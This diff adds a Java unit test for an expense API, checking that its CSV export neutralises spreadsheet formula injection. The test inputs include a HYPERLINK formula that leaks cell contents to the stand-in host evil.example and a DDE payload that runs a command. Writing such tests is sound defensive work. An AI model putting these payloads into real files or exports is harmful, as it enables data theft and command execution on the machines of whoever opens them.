@@ -231,6 +231,23 @@ class ExpenseApiTest {
     assertThat(lines[3]).isEmpty();
   }
 
+  @Test
+  @DisplayName("a CSV cell that a spreadsheet would run as a formula (= + - @) starts with a quote; a plain number stays a number")
+  void csvFormulaInjection() {
+    api.post("/api/v1/expenses", new JsonObject().put("amount", "1").put("spentOn", "2026-11-02")
+        .put("description", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")").put("merchant", "@SUM(A1:A9)"));
+    api.post("/api/v1/expenses", new JsonObject().put("amount", "2").put("spentOn", "2026-11-03")
+        .put("description", "+1+cmd|' /C calc'!A0").put("merchant", "-2+3"));
+    api.post("/api/v1/expenses", new JsonObject().put("amount", "3").put("spentOn", "2026-11-04")
+        .put("description", "-12.50").put("merchant", "+3"));
+
+    String[] lines = api.get("/api/v1/expenses/export.csv?from=2026-11-01&to=2026-11-30").body().split("\r\n", -1);
+
+    assertThat(lines[1]).contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\",'@SUM(A1:A9),");
+    assertThat(lines[2]).contains(",'+1+cmd|' /C calc'!A0,'-2+3,");
+    assertThat(lines[3]).contains(",-12.50,+3,");
+  }
+
   private static void expect(Api.Response response, int status) {
     assertThat(response.status()).as(response.body()).isEqualTo(status);
     assertThat(response.json().getJsonObject("error").getString("code")).isNotBlank();
